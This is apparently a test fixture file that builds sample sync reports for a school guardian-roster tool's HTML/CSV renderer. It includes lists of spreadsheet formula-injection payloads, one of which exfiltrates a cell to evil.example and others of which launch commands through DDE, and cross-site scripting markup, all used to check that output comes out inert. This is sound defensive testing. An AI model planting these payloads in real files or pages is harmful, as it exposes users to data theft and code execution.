// Hand-built SyncReport fixtures for the renderer tests: one per status the reports must
// read well for, plus a hostile one whose user values are markup and formula payloads.
import { createIssue, type Issue } from '../../src/errors/issue.js';
import type { RowOutcome } from '../../src/model/plan.js';
import { EMPTY_COUNTS, REPORT_CHANGE_FIELDS, type ReportChange, type SyncReport } from '../../src/model/report.js';

/** Cells a spreadsheet would run (RELIABILITY.md): each must come out inert. */
export const FORMULA_PAYLOADS: readonly string[] = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")',
  '=1+1',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '-',
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1',
  '\uFF0Bcmd',
  '\uFF0D1+1',
  '\uFF20SUM(A1)',
];

/** Markup that must show as text in report.html. */
export const MARKUP_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '</style><script>window.__pwned=1</script>',
  '</title><script>window.__pwned=2</script>',
  '<!-- & &amp; -->',
];

const BASE = {
  formatVersion: 1,
  startedAt: '2026-11-28T06:00:00.000Z',
  finishedAt: '2026-11-28T06:00:03.250Z',
  dryRun: false,
  scope: { level: 'district', orgId: 'district-100' },
  file: {
    name: 'guardians.csv',
    size: 48_213,
    sha256: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
    encoding: 'utf-8',
    delimiter: ',',
    rows: 6,
  },
  changeFields: REPORT_CHANGE_FIELDS,
  changes: [],
} as const satisfies Partial<SyncReport>;

function rows(outcomes: readonly [number, RowOutcome['action'], RowOutcome['result']][]): RowOutcome[] {
  return outcomes.map(([line, action, result]) => ({ line, action, result }));
}

export const succeededReport: SyncReport = {
  ...BASE,
  runId: 'run-succeeded-1',
  status: 'succeeded',
  counts: { ...EMPTY_COUNTS, rows: 6, guardians: 4, accountsCreated: 3, rolesAdded: 1, linksAdded: 6 },
  threshold: { maxRemovalRatio: 0.1, removalRatio: 0, archiveRatio: 0, exceeded: false },
  issues: [],
  rows: rows([
    [2, 'CREATED', 'SUCCESS'],
    [3, 'LINKED', 'SUCCESS'],
    [4, 'CREATED', 'SUCCESS'],
    [5, 'CREATED', 'SUCCESS'],
    [6, 'UPDATED', 'SUCCESS'],
    [7, 'LINKED', 'SUCCESS'],
  ]),
  changes: [
    { kind: 'created', lines: [2, 3], accountId: 'acc-1', name: 'Ana López' },
    { kind: 'linked', lines: [2], accountId: 'acc-1', studentSisId: 'S-0001', name: 'Ana López' },
    { kind: 'linked', lines: [3], accountId: 'acc-1', studentSisId: 'S-0002', name: 'Ana López' },
    { kind: 'created', lines: [4], accountId: 'acc-2', name: 'Luis López' },
    { kind: 'linked', lines: [4], accountId: 'acc-2', studentSisId: 'S-0001', name: 'Luis López' },
    { kind: 'created', lines: [5], accountId: 'acc-3', name: 'Grace Kim' },
    { kind: 'linked', lines: [5], accountId: 'acc-3', studentSisId: 'S-0003', name: 'Grace Kim' },
    { kind: 'updated', lines: [6, 7], accountId: 'staff-1', fields: ['email', 'mobilePhone'], name: 'Maria García' },
    { kind: 'role-added', lines: [6, 7], accountId: 'staff-1', name: 'Maria García' },
    { kind: 'linked', lines: [6], accountId: 'staff-1', studentSisId: 'S-0005', name: 'Maria García' },
    { kind: 'linked', lines: [7], accountId: 'staff-1', studentSisId: 'S-0006', name: 'Maria García' },
  ],
};

export const failedFileReport: SyncReport = {
  ...BASE,
  runId: 'run-failed-1',
  status: 'failed',
  file: { ...BASE.file, rows: 0 },
  counts: EMPTY_COUNTS,
  threshold: { maxRemovalRatio: 0.1, removalRatio: 0, archiveRatio: 0, exceeded: false },
  issues: [createIssue('MALFORMED_CSV', 'Quote opened at line 7, column 14 is never closed.', { line: 7, column: 'lastName' })],
  rows: [],
};

export const failedNoFileReport: SyncReport = {
  ...BASE,
  runId: 'run-failed-2',
  status: 'failed',
  file: null,
  counts: EMPTY_COUNTS,
  threshold: { maxRemovalRatio: 0.1, removalRatio: 0, archiveRatio: 0, exceeded: false },
  issues: [createIssue('FILE_NOT_FOUND', 'No file named guardians.csv in /upload/district-100.')],
  rows: [],
};

export const thresholdReport: SyncReport = {
  ...BASE,
  runId: 'run-threshold-1',
  status: 'failed-threshold',
  file: { ...BASE.file, rows: 4 },
  counts: { ...EMPTY_COUNTS, rows: 4, guardians: 3, unchanged: 3, linksAdded: 1 },
  threshold: { maxRemovalRatio: 0.1, removalRatio: 0.4, archiveRatio: 0.05, exceeded: true },
  issues: [createIssue('THRESHOLD_EXCEEDED', 'The plan removes 40% of managed links (maximum 10%): removals and archives were held back.')],
  rows: rows([
    [2, 'UNCHANGED', 'SUCCESS'],
    [3, 'UNCHANGED', 'SUCCESS'],
    [4, 'LINKED', 'SUCCESS'],
    [5, 'UNCHANGED', 'SUCCESS'],
  ]),
};

export const forcedReport: SyncReport = {
  ...thresholdReport,
  runId: 'run-forced-1',
  status: 'succeeded-with-warnings',
  counts: { ...thresholdReport.counts, linksRemoved: 8, guardiansArchived: 1 },
  threshold: { ...thresholdReport.threshold, forced: true },
  issues: [createIssue('THRESHOLD_EXCEEDED', 'Forced past the threshold.', { severity: 'warning' })],
};

const dryRunIssues: Issue[] = [
  createIssue('UNKNOWN_STUDENT', 'Student S-0099 is not in the roster.', { line: 4, column: 'studentSisId' }),
  createIssue('UNKNOWN_STUDENT', 'Student S-0100 is not in the roster.', { line: 6, column: 'studentSisId' }),
  createIssue('MISSING_GUARDIAN_SIS_ID', 'guardianSisId is empty.', { line: 3, column: 'guardianSisId' }),
  createIssue('MISSING_GUARDIAN_SIS_ID', 'guardianSisId is empty.', { line: 5, column: 'guardianSisId' }),
  createIssue('MISSING_VALUE', 'lastName is empty.', { line: 7, column: 'lastName' }),
  createIssue('CONFLICTING_GUARDIAN_ROWS', 'Guardian G-7 has two different emails.', { line: 2, column: 'email', lines: [2, 8] }),
  createIssue('CLAIMED_ACCOUNT_NOT_UPDATED', 'Account acc-3 is claimed; its name was kept.', { line: 8 }),
];

export const dryRunReport: SyncReport = {
  ...BASE,
  runId: 'run-dry-1',
  status: 'succeeded-with-warnings',
  dryRun: true,
  file: { ...BASE.file, delimiter: ';', encoding: 'windows-1252', rows: 7 },
  counts: { ...EMPTY_COUNTS, rows: 7, rowsSkipped: 3, guardians: 3, accountsCreated: 2, linksAdded: 4, linksRemoved: 1, unchanged: 1 },
  threshold: { maxRemovalRatio: 0.1, removalRatio: 0.05, archiveRatio: 0, exceeded: false },
  issues: dryRunIssues,
  rows: rows([
    [2, 'CREATED', 'WARNING'],
    [3, 'CREATED', 'WARNING'],
    [4, 'SKIPPED', 'WARNING'],
    [5, 'LINKED', 'WARNING'],
    [6, 'SKIPPED', 'WARNING'],
    [7, 'SKIPPED', 'ERROR'],
    [8, 'UNCHANGED', 'SUCCESS'],
  ]),
  changes: [
    { kind: 'created', lines: [2], accountId: 'acc-1', name: 'Ana López' },
    { kind: 'linked', lines: [2], accountId: 'acc-1', studentSisId: 'S-0001', name: 'Ana López' },
    { kind: 'created', lines: [3, 5], accountId: 'acc-2', name: 'Luis López' },
    { kind: 'linked', lines: [3], accountId: 'acc-2', studentSisId: 'S-0001', name: 'Luis López' },
    { kind: 'linked', lines: [5], accountId: 'acc-2', studentSisId: 'S-0002', name: 'Luis López' },
    { kind: 'linked', lines: [8], accountId: 'acc-3', studentSisId: 'S-0004', name: 'Tom Baker' },
    { kind: 'unlinked', lines: [], accountId: 'acc-3', studentSisId: 'S-0003', name: 'Tom Baker' },
  ],
};

/** Every dangerous value in a message and in a column, plus markup in the file name and scope. */
export const hostileIssues: Issue[] = [...FORMULA_PAYLOADS, ...MARKUP_PAYLOADS].flatMap((payload, i) => [
  createIssue('INVALID_EMAIL', payload, { line: 10 + i, column: 'email' }),
  createIssue('UNKNOWN_COLUMN', `Unknown column ${payload}`, { column: payload }),
]);

export const hostileReport: SyncReport = {
  ...BASE,
  runId: 'run-<b>hostile</b>',
  status: 'succeeded-with-warnings',
  scope: { level: 'school', orgId: '"><img src=x onerror=alert(1)>' },
  file: { ...BASE.file, name: '<script>alert(1)</script>.csv', encoding: '<i>utf-8</i>', rows: 3 },
  counts: { ...EMPTY_COUNTS, rows: 3, guardians: 3 },
  threshold: { maxRemovalRatio: 0.1, removalRatio: 0, archiveRatio: 0, exceeded: false },
  issues: hostileIssues,
  rows: rows([
    [10, 'CREATED', 'WARNING'],
    [11, 'CREATED', 'WARNING'],
    [12, 'CREATED', 'SUCCESS'],
  ]),
  changes: hostileChanges(),
};

/** Changes whose names, account ids and student ids carry every markup and formula payload. */
function hostileChanges(): ReportChange[] {
  return [...FORMULA_PAYLOADS, ...MARKUP_PAYLOADS].flatMap((payload, i): ReportChange[] => [
    { kind: 'created', lines: [10 + i], accountId: `acc-${payload}`, name: payload },
    { kind: 'linked', lines: [10 + i], accountId: `acc-${payload}`, studentSisId: payload, name: `${payload} Family` },
  ]);
}

const CHANGE_KIND_CYCLE = ['created', 'linked', 'updated', 'linked', 'role-added', 'restored', 'archived', 'unlinked', 'id-removed', 'linked'] as const;
const FIRST_NAMES = ['Ana', 'Luis', 'Grace', 'Tom', 'Maria', 'Olu', 'Chen', 'Sam', 'Priya', 'Zoë'];

/**
 * A report of `count` changes of every kind, a few per line, with names, as a district's
 * large day could have: for the Changes section at scale. Guardian i is named
 * `<first name> Family<i>` and holds account `acc-<i>`; its change is on line i + 2.
 */
export function changesReport(count: number): SyncReport {
  const changes: ReportChange[] = [];
  for (let i = 0; i < count; i++) {
    const kind = CHANGE_KIND_CYCLE[i % CHANGE_KIND_CYCLE.length]!;
    const base = { accountId: `acc-${i}`, name: `${FIRST_NAMES[i % FIRST_NAMES.length]!} Family${i}` };
    const lines = kind === 'archived' || kind === 'unlinked' ? [] : [i + 2];
    if (kind === 'updated') changes.push({ kind, lines, ...base, fields: i % 3 === 0 ? ['lastName'] : ['email', 'language'] });
    else if (kind === 'linked' || kind === 'unlinked') changes.push({ kind, lines, ...base, studentSisId: `S-${String(i).padStart(6, '0')}` });
    else changes.push({ kind, lines, ...base });
  }
  const linked = changes.filter((c) => c.lines.length > 0);
  const lineless = changes.filter((c) => c.lines.length === 0);
  const perKind = (kind: ReportChange['kind']): number => changes.filter((c) => c.kind === kind).length;
  return {
    ...succeededReport,
    runId: 'run-changes-1',
    file: { ...BASE.file, rows: count },
    counts: {
      ...EMPTY_COUNTS,
      rows: count,
      guardians: count,
      accountsCreated: perKind('created'),
      accountsUpdated: perKind('updated'),
      rolesAdded: perKind('role-added'),
      linksAdded: perKind('linked'),
      linksRemoved: perKind('unlinked'),
      guardiansArchived: perKind('archived'),
      guardiansRestored: perKind('restored'),
    },
    rows: [],
    // As a report orders them: by line, then the changes without lines.
    changes: [...linked, ...lineless],
  };
}

/** A report with many rows, to see the per-row table capped. */
export function bigReport(rowCount: number): SyncReport {
  const many: RowOutcome[] = Array.from({ length: rowCount }, (_, i) => ({ line: i + 2, action: 'UNCHANGED', result: 'SUCCESS' }));
  return {
    ...succeededReport,
    runId: 'run-big-1',
    file: { ...BASE.file, rows: rowCount },
    counts: { ...EMPTY_COUNTS, rows: rowCount, guardians: rowCount, unchanged: rowCount },
    rows: many,
  };
}
